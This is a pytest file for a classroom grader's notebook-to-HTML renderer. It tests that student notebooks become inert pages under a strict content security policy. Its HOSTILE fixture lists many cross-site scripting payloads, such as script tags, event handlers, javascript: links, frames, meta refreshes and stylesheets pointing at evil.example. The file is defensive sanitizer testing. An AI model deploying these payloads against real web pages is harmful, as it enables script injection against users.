"""A notebook as a page: what a TA needs is in it, and nothing a student put there can run, load, or lead astray."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from grader.classroom.html_sanitizer import MAX_DEPTH, sanitize
from grader.classroom.notebook_page import link_up, render, renderer
from grader.errors import UsageError
from grader.homework import HOMEWORK
from grader.sandbox.policy import Layer, Level
from grader.sandbox.supervisor import Sandbox
from grader.submission.collect import Submission, collect
from tests.conftest import SAMPLES, run

NAME = "q_optimizer_init.ipynb"
PLAIN = {
    "a", "abbr", "b", "blockquote", "body", "br", "code", "dd", "del", "div", "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "head", "header", "hr", "html", "i", "img", "kbd", "li", "meta", "nav", "ol", "p", "pre", "s", "span", "strong", "style", "sub",
    "sup", "table", "tbody", "td", "th", "thead", "title", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"class", "href", "id", "src", "alt", "rel", "charset", "content", "http-equiv", "name", "lang"}


def png(colour: bytes = b"\xff\x00\x00") -> bytes:
    """A picture of one point."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" + colour)) + chunk(b"IEND", b"")


class Elements(HTMLParser):
    """All start tags with their attributes, and the text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def markdown(source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def code(source: str, *outputs: Any) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": 7, "metadata": {}, "source": source, "outputs": list(outputs)}


def shown(**data: str) -> dict[str, Any]:
    """An output that displays `data`, by media type with __ for a slash."""
    return {"output_type": "display_data", "metadata": {}, "data": {kind.replace("__", "/"): held for kind, held in data.items()}}


def handed_in(*cells: Any, label: str = "somebody") -> Submission:
    data = json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
    return Submission(label, {}, {}, (NAME, data), (), {}, "")


@pytest.fixture(scope="module")
def pages() -> Iterator[Sandbox]:
    pytest.importorskip("nbconvert", reason="pages need nbconvert: ./bootstrap staff")
    with renderer(HOMEWORK, Level.STAFF) as made:
        yield made


Page = Callable[..., str]


@pytest.fixture
def page(sandbox: Sandbox, pages: Sandbox) -> Page:
    """The page of a notebook with these cells."""

    def made(*cells: Any, label: str = "somebody") -> str:
        return render(HOMEWORK, handed_in(*cells, label=label), sandbox, pages)

    return made


def assert_inert(page: str) -> Elements:
    """Only plain elements and attributes, pictures that are data, links to the web, and the policy before anything else."""
    elements = Elements(page)
    assert page.index("Content-Security-Policy") < page.index("<title>")
    (policy,) = [attrs["content"] for tag, attrs in elements.found if attrs.get("http-equiv")]
    assert policy == "default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'"
    for tag, attrs in elements.found:
        assert tag in PLAIN, tag
        assert set(attrs) <= ATTRIBUTES, attrs
        assert tag == "meta" or "content" not in attrs
        assert attrs.get("id", "by-hand") == "by-hand"
        assert (attrs.get("href") or "https://").startswith(("http://", "https://", "#by-hand")), attrs
        assert (attrs.get("src") or "data:image/png;base64,").startswith(("data:image/png;base64,", "data:image/jpeg;base64,")), (
            attrs
        )
    assert sum(tag == "style" for tag, _ in elements.found) == 1
    assert sum(tag == "title" for tag, _ in elements.found) == 1
    return elements


def test_the_reference_is_shown_with_its_code_and_output(sandbox: Sandbox, pages: Sandbox) -> None:
    found = render(HOMEWORK, collect(SAMPLES / "reference", HOMEWORK.layout), sandbox, pages)
    text = " ".join(assert_inert(found).text.split())
    assert "<title>reference: notebook</title>" in found
    assert "q_optimizer_init.ipynb, as handed in, without having been run again." in text
    assert "In [13]:" in text.replace("\xa0", " ")
    assert "(Iteration 1 / 1470) loss: " in text
    assert "Question. What do you observe in the plot of the gradient norms?" in text
    assert found.count("<h2>") >= 5
    assert 'class="k"' in found  # code has colours


def test_the_page_leads_to_the_question_that_is_graded_by_hand(page: Page) -> None:
    asked = markdown("**Question.** What do you see in the plot of the Gradient Norms?")
    found = page(markdown("<div>Question"), asked, markdown("My answer."))
    assert found.index("Question") < found.index('<div id="by-hand">') < found.index("What do you see") < found.index("My answer.")
    assert 'href="#by-hand"' in found
    assert_inert(found)
    assert "by-hand</" not in page(markdown("Question"))
    assert 'href="#by-hand"' not in page(markdown("Question"))


def test_pages_of_a_class_say_whose_they_are_and_lead_to_the_next(tmp_path: Path) -> None:
    pages = []
    for name in ("s1", "s2", "s3"):
        (tmp_path / name).mkdir()
        path = tmp_path / name / "notebook.html"
        path.write_text("<title>x</title>\n<!--head--><h1>x</h1><!--/head-->\n" + name * 20_000, "utf-8")
        pages.append((path, f"{name} <b>Ada</b>"))
    link_up(pages)
    text = pages[1][0].read_text("utf-8")
    assert text.startswith("<title>s2 &lt;b&gt;Ada&lt;/b&gt;: notebook</title>")
    assert '<a href="../s1/notebook.html">Previous: s1 &lt;b&gt;Ada' in text
    assert '<a href="../s3/notebook.html">Next: s3 &lt;b&gt;Ada' in text
    assert text.endswith("<!--/head-->\n" + "s2" * 20_000)
    assert "Previous" not in pages[0][0].read_text("utf-8")
    before = pages[1][0].stat().st_mtime_ns
    link_up(pages)
    assert pages[1][0].stat().st_mtime_ns == before


@pytest.mark.parametrize("kind", ["png", "jpeg"])
def test_pictures_of_plots_and_in_answers_are_part_of_the_page(page: Page, kind: str) -> None:
    data = png() if kind == "png" else b"\xff\xd8\xff\xe0 a picture"
    text = base64.b64encode(data).decode()
    lines = [text[:10] + "\n", text[10:]]
    found = page(
        code("plt.show()", shown(**{f"image__{kind}": text, "text__plain": "<Figure>"})),
        code("plt.show()", {"output_type": "display_data", "metadata": {}, "data": {f"image/{kind}": lines}}),
        markdown("![mine](attachment:plot.png)", attachments={"plot.png": {f"image/{kind}": text}}),
    )
    assert found.count(f'src="data:image/{kind};base64,{text}"') == 3
    assert "Figure" not in found
    assert_inert(found)


@pytest.mark.parametrize(
    "data",
    ["not base64!", base64.b64encode(b"GIF89a").decode(), base64.b64encode(b"<svg onload=alert(1)>").decode(), "", "\u00e9"],
)
def test_a_picture_that_is_none_is_not_shown(page: Page, data: str) -> None:
    found = page(code("x", shown(image__png=data, text__plain="<Figure size 1>")))
    assert "<img" not in found
    assert "&lt;Figure size 1&gt;" in found
    assert ("a picture that is broken" in found) is bool(data)


SCRIPT = "<script>alert('mark')</script>"
HOSTILE: dict[str, Any] = {
    "a script in text": markdown(f"before {SCRIPT} after"),
    "a script in a heading": markdown(f"# {SCRIPT}"),
    "a script in capitals and pieces": markdown("<ScRiPt\n src=//evil.example/x.js ></sCrIpT><scr<script>ipt>alert(1)</script>"),
    "a picture with a handler": markdown('<img src=x onerror="alert(1)"> <img src="x" onerror=alert(1)//'),
    "a body with a handler": markdown("<body onload=alert(1)><details open ontoggle=alert(1)>x</details>"),
    "a vector picture with a script": markdown("<svg onload=alert(1)><script>alert(1)</script></svg><math><mi xlink:href='x'>"),
    "a link that runs": markdown("[x](javascript:alert(1)) <a href=' jAvAsCrIpT:alert(1)'>y</a> [z](java\tscript:alert(1))"),
    "a link in entities": markdown("<a href='&#106;avascript&#58;alert(1)'>x</a> [y](&#x6A;avascript:alert(1))"),
    "a link to data": markdown("[x](data:text/html;base64,PHNjcmlwdD4=) <a href='vbscript:x'>y</a> [f](file:///etc/passwd)"),
    "a frame": markdown("<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x><frameset>"),
    "a frame with a document": markdown("<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    "a refresh": markdown("<meta http-equiv='refresh' content='0; url=https://evil.example'>"),
    "a base": markdown("<base href='https://evil.example/'>\n\n[x](y)"),
    "a form": markdown("<form action='https://evil.example'><input name=x><button formaction=y>z</button></form>"),
    "a style": markdown("<style>body{background:url(https://evil.example/x)}</style><p style='background:url(http://evil.example)'>x"),
    "a sheet": markdown("<link rel=stylesheet href=https://evil.example/x.css>@import url(https://evil.example/y.css);"),
    "a picture from the web": markdown("![x](https://evil.example/x.png) <img src=//evil.example/y.png srcset='z 2x'>"),
    "a picture as data": markdown("![x](data:image/svg+xml;base64,PHN2Zz4=) <img src='data:text/html,x'>"),
    "comments": markdown("<!-- <script>alert(1)</script> --><!--><script>alert(1)</script>--> <![CDATA[<script>]]>"),
    "a title": markdown("</title><script>alert(1)</script>"),
    "an end of everything": markdown("</div></div></body></html><script>alert(1)</script><plaintext><xmp><noscript>"),
    "mutations": markdown("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"><math><mtext><table><mglyph><style>"),
    "HTML output": code("x", shown(text__html=f"<b>bold</b>{SCRIPT}<img src=x onerror=alert(1)>", text__plain="plain")),
    "a program as output": code("x", shown(application__javascript="alert('mark')", text__plain="plain")),
    "a widget": code("x", shown(**{"application__vnd.jupyter.widget-view+json": '{"model_id": "</script><script>"}'})),
    "a vector picture as output": code("x", shown(image__svg__xml="<svg onload=alert(1)>")),
    "formulas and Markdown as output": code("x", shown(text__latex=f"$${SCRIPT}$$"), shown(text__markdown=f"*x* {SCRIPT}")),
    "text output": code("x", {"output_type": "stream", "name": "stdout", "text": f"{SCRIPT}\x1b[31m<i>red\x1b]8;;vbscript:\x07"}),
    "an error": code("x", {"output_type": "error", "ename": SCRIPT, "evalue": SCRIPT, "traceback": [f"\x1b[31m{SCRIPT}", 7, None]}),
    "source": code(f"'''{SCRIPT}''' # <img src=x onerror=alert(1)>\n</pre></div>{SCRIPT}"),
    "a raw cell": {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": SCRIPT},
    "a raw cell of another type": {"cell_type": SCRIPT, "metadata": {"format": "text/html"}, "source": SCRIPT},
    "an attachment's name": markdown(
        "![x](attachment:a)",
        attachments={"a": {"image/png": "\"><script>"}, "\"><script>": {"image/png": base64.b64encode(png()).decode()}},
    ),
    "an attachment that is no picture": markdown("[x](attachment:a) ![x](attachment:a)", attachments={"a": {"text/html": SCRIPT}}),
    "tags and ids": {**code("x"), "id": "\"><script>", "metadata": {"tags": ["\"><script>alert(1)</script>"], "slideshow": SCRIPT}},
    "formulas": markdown(f"$${SCRIPT}$$ $<img src=x onerror=alert(1)>$ \\begin{{a}}{SCRIPT}\\end{{a}}"),
    "a table": markdown("| a | <script>alert(1)</script> |\n|---|:-:|\n| [x](javascript:y) | <td onclick=x> |"),
    "templates": markdown("{{ 7 * 7 }} {% include 'x' %} $body ${body} {{ ''.__class__ }}"),
    "a fence": markdown('```"><script>alert(1)</script>\nx\n```\n\n```python\n<script>\n```'),
    "a mermaid": code("x", shown(**{"text__vnd.mermaid": SCRIPT})),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_a_notebook_holds_is_live(page: Page, name: str) -> None:
    found = page(HOSTILE[name], markdown("the end"))
    assert_inert(found)
    assert "the end" in found


def test_what_is_not_live_can_still_be_read(page: Page) -> None:
    text = Elements(page(HOSTILE["a script in text"], HOSTILE["templates"], HOSTILE["text output"])).text
    assert "before <script>alert('mark')</script> after" in text
    assert "{{ 7 * 7 }}" in text
    assert "$body ${body}" in text
    assert "<i>red" in text


def test_the_page_closes_whatever_a_cell_opens(page: Page) -> None:
    found = page(markdown("<div><div><b><i>open"), markdown("next"))
    assert found.rstrip().endswith("</body>\n</html>")
    assert all(found.count(f"<{tag}>") + found.count(f"<{tag} ") == found.count(f"</{tag}>") > 0 for tag in ("div", "b", "i", "p"))


@pytest.mark.parametrize(
    ("fragment", "written"),
    [
        ("<p>a<b>b</p>c</b>", "<p>a<b>b</b></p><b>c</b>"),
        ("<script>x < y</script>", "x &lt; y"),
        ("<style>x < y</style><title>z</title>", "x &lt; yz"),
        ('<a href="https://x.y/?a&amp;b" onclick=x>z', '<a href="https://x.y/?a&amp;b" rel="noopener noreferrer nofollow">z</a>'),
        ('<a href="javascript:x">y</a>', '<a rel="noopener noreferrer nofollow">y</a>'),
        ('<a href="data:image/png;base64,AA==">y</a>', '<a rel="noopener noreferrer nofollow">y</a>'),
        ('<a href="/x" target="_blank" ping="https://x.y">y</a>', '<a rel="noopener noreferrer nofollow">y</a>'),
        ('<img src="https://x.example/y.png">', "<img>"),
        ('<img src="data:image/svg+xml;base64,AA==" srcset="https://x.y 2x">', "<img>"),
        ('<img src="data:image/png;base64,AA==" onerror=x alt="b">', '<img src="data:image/png;base64,AA==" alt="b">'),
        ('<div class="a b" style="x" id="y">z</div>', '<div class="a b">z</div>'),
        ('<span class="&quot;><script>">x', "<span>x</span>"),
        ("a<!-- b -->c<?d?><!e>", "ac"),
        ("</div>x</b>", "x"),
        ("<div>" * MAX_DEPTH + "x", "<div>" * MAX_DEPTH + "x" + "</div>" * MAX_DEPTH),
        ("<br>" * 1000 + "<p>x</p>" * 1000, "<br>" * 1000 + "<p>x</p>" * 1000),
        ("&lt;script&gt; &amp; &#60;", "&lt;script&gt; &amp; &lt;"),
    ],
)  # fmt: skip
def test_of_a_fragment_only_what_is_allowed_is_left(fragment: str, written: str) -> None:
    assert sanitize(fragment) == written


@pytest.mark.parametrize("tag", ["div", "b", "blockquote", "a", "table><tr><td", "svg"])
def test_what_nests_without_end_is_refused_at_once(tag: str) -> None:
    with pytest.raises(UsageError, match="nested"):
        sanitize(f"<{tag}>" * 100_000)


@pytest.mark.parametrize("inside", ["<p>x</p>", "<td>x", "<i></i>"])
def test_what_html_would_open_again_in_every_paragraph_is_refused_at_once(inside: str) -> None:
    bold = "".join(f"<b class={number}>" for number in range(MAX_DEPTH - 20))
    with pytest.raises(UsageError, match="nested"):
        sanitize(f"<p>{bold}{inside * 100_000}")


def test_a_page_that_nests_too_deeply_is_refused_in_a_sentence(page: Page) -> None:
    with pytest.raises(UsageError, match=f"{NAME} cannot be shown: its elements are nested"):
        page(markdown("<div>" * 300))


def test_a_label_is_text_in_the_title(page: Page) -> None:
    found = page(markdown("x"), label="</title><script>alert(1)</script> $body")
    assert "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; $body: notebook</title>" in found
    assert_inert(found)


def test_thousands_of_cells_are_cut_and_it_says_so(page: Page) -> None:
    found = page(*[code("x")] * 1200)
    assert "1000 cells are shown, 200 are not." in found


@pytest.mark.parametrize(
    ("data", "why"),
    [(b"{", "is not valid JSON"), (b"", "is empty"), (b"[1]", "is no notebook"), (b"[" * 200_000, "is not valid JSON")],
)
def test_what_is_no_notebook_is_said(sandbox: Sandbox, pages: Sandbox, data: bytes, why: str) -> None:
    with pytest.raises(UsageError, match=why):
        render(HOMEWORK, Submission("x", {}, {}, (NAME, data), (), {}, ""), sandbox, pages)


def test_markdown_that_takes_for_ever_ends_in_a_sentence(sandbox: Sandbox, pages: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    from grader.classroom import notebook_page
    from grader.sandbox.policy import Limits

    monkeypatch.setattr(notebook_page, "_LIMITS", Limits(wall=1.0, cpu=1))
    with pytest.raises(UsageError, match="could not be rendered"):
        render(HOMEWORK, handed_in(*[markdown("[" * 20_000 + "*a_" * 20_000)] * 50), sandbox, pages)


def test_where_there_is_no_Landlock_the_page_is_the_same(sandbox: Sandbox, pages: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    from grader.classroom import notebook_page

    try:
        jailed = Sandbox(Level.STAFF, preload=notebook_page._PRELOAD, disabled=[Layer.LANDLOCK])
    except Exception as error:
        pytest.skip(f"no jail here: {error}")
    with jailed:
        submission = collect(SAMPLES / "reference", HOMEWORK.layout)
        assert render(HOMEWORK, submission, sandbox, jailed) == render(HOMEWORK, submission, sandbox, pages)


def test_the_command_writes_one_file(tmp_path: Path) -> None:
    pytest.importorskip("nbconvert", reason="pages need nbconvert: ./bootstrap staff")
    page = tmp_path / "notebook.html"
    process = run("grade", SAMPLES / "reference", "--only", "notebook", "--html", page)
    assert (process.returncode, process.stderr) == (0, "")
    assert "passed        notebook.consistency" in process.stdout
    assert "<title>reference: notebook</title>" in page.read_text("utf-8")
    assert [path.name for path in tmp_path.iterdir()] == ["notebook.html"]


@pytest.mark.parametrize(
    ("sample", "name", "told"),
    [("nothing", "page.html", "nothing holds no notebook"), ("reference", "no/page.html", "cannot be written")],
)
def test_what_cannot_be_shown_is_said_after_the_verdict(tmp_path: Path, sample: str, name: str, told: str) -> None:
    pytest.importorskip("nbconvert", reason="pages need nbconvert: ./bootstrap staff")
    process = run("grade", SAMPLES / sample, "--only", "notebook", "--html", tmp_path / name)
    assert process.returncode == 2
    assert "notebook.consistency" in process.stdout
    assert told in process.stderr
    assert len(process.stderr.splitlines()) == 1


def test_without_nbconvert_the_command_names_what_sets_it_up(tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text("import sys\nsys.modules['nbconvert'] = None\n", "utf-8")  # as if it were not there
    process = run("grade", SAMPLES / "reference", "--html", tmp_path / "x.html", PYTHONPATH=str(tmp_path))
    assert process.returncode == 2
    assert process.stdout == ""
    assert "nbconvert, which is not installed here; ./run_autograder sets it up by itself" in process.stderr


def test_an_attachment_that_is_missing_does_not_cost_the_text(page: Page) -> None:
    found = page(markdown("*my* answer ![x](attachment:gone.png)"), markdown("$$\\begin{x}$$ <b>"), markdown("next"))
    assert "<em>my</em> answer" in found
    assert "next" in found
